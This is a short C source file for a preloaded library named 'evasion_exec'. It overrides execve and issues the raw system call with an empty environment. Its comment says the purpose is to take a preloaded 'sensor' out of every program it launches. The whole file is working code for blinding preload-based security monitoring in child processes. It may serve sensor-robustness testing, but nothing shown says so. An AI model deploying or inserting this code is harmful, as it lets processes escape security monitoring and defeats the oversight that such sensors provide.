/* evasion_exec: a library that is preloaded behind the sensor and takes the sensor out of every environment that an exec passes on.
 */
#include <stddef.h>
#include <sys/syscall.h>

int execve(const char *path, char *const argv[], char *const envp[]) {
    static char *const none[] = {NULL};
    (void)envp;
#ifdef __x86_64__
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(SYS_execve), "D"(path), "S"(argv), "d"(none) : "rcx", "r11", "memory");
    return (int)result;
#else
    register long x8 __asm__("x8") = SYS_execve;
    register long x0 __asm__("x0") = (long)path;
    register long x1 __asm__("x1") = (long)argv;
    register long x2 __asm__("x2") = (long)none;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return (int)x0;
#endif
}
